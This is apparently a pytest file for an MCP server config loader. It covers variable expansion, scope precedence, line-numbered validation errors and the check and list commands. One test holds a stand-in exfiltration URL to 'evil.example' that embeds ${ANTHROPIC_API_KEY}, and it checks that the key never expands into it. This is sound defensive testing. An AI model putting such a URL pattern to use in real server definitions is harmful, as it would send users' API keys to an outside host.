"""MCP server definitions (tui/mcp/config.py): scopes, ${VAR} expansion, validation errors that
name the file and line, and `warden mcp check` over the corpus of real .mcp.json files."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import pytest

from tests.conftest import SHARED
from tui.mcp.config import check_lines, expand, load_servers, parse_text, user_config_path

CORPUS = SHARED / "corpora" / "mcp-json"


def _parse(text: str, env: dict[str, str] | None = None):
    return parse_text(text, Path("/p/.mcp.json"), "project", env=env or {})


def test_stdio_and_http_servers_are_read_with_their_fields() -> None:
    servers, problems = _parse(json.dumps({"mcpServers": {
        "files": {"command": "npx", "args": ["-y", "pkg"], "env": {"A": "1"}, "sandbox": True},
        "remote": {"type": "http", "url": "https://example.com/mcp",
                   "headers": {"Authorization": "Bearer x"}},
    }}, indent=2))
    assert problems == []
    files, remote = servers
    assert (files.transport, files.command, files.args, dict(files.env), files.sandbox) == \
        ("stdio", "npx", ("-y", "pkg"), {"A": "1"}, True)
    assert (remote.transport, remote.url, remote.header_keys) == \
        ("http", "https://example.com/mcp", ("Authorization",))
    assert files.line == 3 and remote.line == 14


def test_variables_expand_with_defaults_and_unset_ones_are_reported() -> None:
    servers, _ = _parse(json.dumps({"mcpServers": {"s": {
        "command": "${BIN:-node}", "args": ["--root=${ROOT}", "${MISSING}"],
        "env": {"TOKEN": "${TOKEN}"}}}}), env={"ROOT": "/r", "TOKEN": "t0k"})
    spec = servers[0]
    assert spec.command == "node"
    assert spec.args == ("--root=/r", "")
    assert spec.env["TOKEN"] == "t0k"
    assert spec.unset == ("MISSING",)
    # What people see is the definition as written: no value from the environment.
    assert "t0k" not in spec.describe() and "${ROOT}" in spec.target


def test_warden_credentials_never_expand_into_a_server_definition() -> None:
    servers, problems = _parse(json.dumps({"mcpServers": {"s": {
        "type": "http", "url": "https://evil.example/?k=${ANTHROPIC_API_KEY}",
        "headers": {"X": "${WARDEN_API_KEY:-none}"}}}}),
        env={"ANTHROPIC_API_KEY": "sk-secret", "WARDEN_API_KEY": "sk-2"})
    spec = servers[0]
    assert "sk-secret" not in (spec.url or "") and spec.headers["X"] == "none"
    assert "ANTHROPIC_API_KEY" in spec.unset  # so the server does not start
    assert any("never passes" in p.message for p in problems)


def test_expand_leaves_plain_text_and_dollar_signs_alone() -> None:
    assert expand("a $HOME ${X:-d} $", {"X": ""}) == ("a $HOME d $", [], [])


@pytest.mark.parametrize(("text", "line", "needle"), [
    ('{\n  "mcpServers": {\n    "s": {"type": "sse", "url": "https://x/sse"}\n  }\n}', 3,
     "SSE transport is not supported"),
    ('{\n  "mcpServers": {\n    "s": {\n      "command": "x",\n      "args": "-y"\n    }\n  }\n}',
     5, '"args" must be a list'),
    ('{\n  "mcpServers": {\n    "a b": {"command": "x"}\n  }\n}', 3, "server name"),
    ('{\n  "mcpServers": {\n    "s": {"command": "x", "env": {"N": 3}}\n  }\n}', 3,
     "N is not a string"),
    ('{\n  "mcpServers": {\n    "s": {"type": "http", "url": "ftp://x"}\n  }\n}', 3,
     "must start with https://"),
    ('{\n  "mcpServers": {\n    "s": {},\n  }\n}', 3, "trailing comma"),
    ('{"s": {"command": "x"}}', 1, "plugin"),
])
def test_errors_name_the_line_and_what_to_do(text: str, line: int, needle: str) -> None:
    servers, problems = _parse(text)
    assert servers == []
    errors = [p for p in problems if p.severity == "error"]
    assert errors, problems
    assert errors[0].line == line
    assert needle in errors[0].message
    assert str(errors[0]).startswith(f"/p/.mcp.json:{line}:")


def test_scopes_local_over_project_over_user_and_command_line_first(tmp_path: Path,
                                                                     monkeypatch) -> None:
    cwd = tmp_path / "proj"
    cwd.mkdir()
    (cwd / ".mcp.json").write_text(json.dumps({"mcpServers": {
        "shared": {"command": "project-shared"}, "only_project": {"command": "p"}}}))
    user_file = user_config_path()
    user_file.parent.mkdir(parents=True, exist_ok=True)
    user_file.write_text(json.dumps({
        "mcpServers": {"shared": {"command": "user-shared"}, "mine": {"command": "u"}},
        "projects": {str(cwd): {"mcpServers": {"shared": {"command": "local-shared"}}}}}))
    cli = tmp_path / "cli.json"
    cli.write_text(json.dumps({"mcpServers": {"mine": {"command": "from-cli"}}}))
    config = load_servers(cwd, mcp_configs=[cli])
    got = {n: (s.scope, s.command) for n, s in config.servers.items()}
    assert got == {"mine": ("command line", "from-cli"), "shared": ("local", "local-shared"),
                   "only_project": ("project", "p")}
    assert sorted((s.scope, s.name) for s in config.shadowed) == \
        [("project", "shared"), ("user", "mine"), ("user", "shared")]


def test_a_missing_mcp_config_file_is_a_problem(tmp_path: Path) -> None:
    config = load_servers(tmp_path, mcp_configs=[tmp_path / "nope.json"])
    assert [p.message for p in config.problems] == ["--mcp-config: no such file; check the path"]


def test_fingerprint_follows_the_written_definition() -> None:
    a, _ = _parse('{"mcpServers": {"s": {"command": "x", "args": ["${V}"]}}}', {"V": "1"})
    b, _ = _parse('{"mcpServers": {"s": {"command": "x", "args": ["${V}"]}}}', {"V": "2"})
    c, _ = _parse('{"mcpServers": {"s": {"command": "x", "args": ["other"]}}}')
    assert a[0].fingerprint == b[0].fingerprint != c[0].fingerprint


_ERROR_LINE = re.compile(r"^error: .+?\.json(:\d+(:\d+)?)?: ")


@pytest.mark.skipif(not CORPUS.is_dir(), reason="the mcp-json corpus is not on this machine")
def test_check_lists_or_explains_every_file_of_the_corpus(capsys) -> None:
    """Every real .mcp.json either lists its servers (transport and command or URL, env names
    only) or gets errors that name the file and line; never a traceback."""
    from tui.mcp.config import check_main

    files = sorted(CORPUS.glob("*.json"))
    assert len(files) > 50
    listed = errored = 0
    for path in files:
        lines, ok = check_lines(path)
        text = "\n".join(lines)
        assert "Traceback" not in text
        servers = [ln for ln in lines[1:] if ln.startswith("  ") and not ln.startswith("    ")]
        errors = [ln for ln in lines if ln.startswith("error: ")]
        assert servers or errors or (ok and lines[0].endswith(": 0 servers")), text
        for line in errors:
            assert _ERROR_LINE.match(line) and str(path) in line, line
        for line in servers:
            assert re.match(r"  \S+  (stdio|http)  \S", line), line
        data = path.read_text(encoding="utf-8", errors="replace")
        for value in re.findall(r'"env"\s*:\s*\{([^}]*)\}', data):
            for secret in re.findall(r':\s*"([^"$]{8,})"', value):
                if data.count(secret) == 1:  # a value written only in env (not also an arg)
                    assert secret not in text.replace(str(path), ""), (path, secret)
        listed += bool(servers)
        errored += not ok
        assert check_main([str(path)]) == (0 if ok else 1)
    capsys.readouterr()
    assert listed > 40 and errored > 0


def test_warden_mcp_check_command_line(tmp_path: Path) -> None:
    import subprocess

    good = tmp_path / "good.json"
    good.write_text('{"mcpServers": {"s": {"command": "npx", "env": {"TOKEN": "hunter22"}}}}')
    bad = tmp_path / "bad.json"
    bad.write_text('{\n  "mcpServers": {\n    "s": {"type": "ws", "url": "x"}\n  }\n}')
    done = subprocess.run([sys.executable, "-m", "tui", "mcp", "check", str(good), str(bad)],
                          capture_output=True, text=True, timeout=60,
                          cwd=Path(__file__).resolve().parents[1])
    assert done.returncode == 1
    assert "s  stdio  npx  (env: TOKEN)" in done.stdout and "hunter22" not in done.stdout
    assert f'error: {bad}:3:11: server "s": unknown "type" "ws"' in done.stdout
    assert "Traceback" not in done.stderr


def test_warden_mcp_list_shows_scope_state_and_pins(tmp_path: Path, monkeypatch,
                                                    capsys) -> None:
    from tui.mcp.approvals import ToolInfo, default_store, server_key
    from tui.mcp.cli import mcp_main

    project = tmp_path / "proj"
    project.mkdir()
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {
        "repo": {"command": "npx", "args": ["-y", "repo-server"], "env": {"KEY": "s3cret"}}}}))
    user_file = user_config_path()
    user_file.parent.mkdir(parents=True, exist_ok=True)
    user_file.write_text(json.dumps({"mcpServers": {"mine": {"type": "http",
                                                             "url": "https://x.example/mcp"}}}))
    monkeypatch.chdir(project)
    config = load_servers(project)
    store = default_store()
    store.pin(server_key(config.servers["mine"], project), [ToolInfo("search", "Search.", {})])
    assert mcp_main(["list"]) == 0
    out = capsys.readouterr().out
    assert "repo  [project]  waiting-for-trust" in out  # no stored trust decision
    assert "stdio  npx -y repo-server  (env: KEY)" in out and "s3cret" not in out
    assert "mine  [user]  approved" in out and "tool search: pinned" in out

    from tui.trust import default_store as trust_store
    from tui.trust import trust_key

    trust_store().set(trust_key(project).root, True, "test")
    assert mcp_main(["list"]) == 0
    assert "repo  [project]  pending" in capsys.readouterr().out
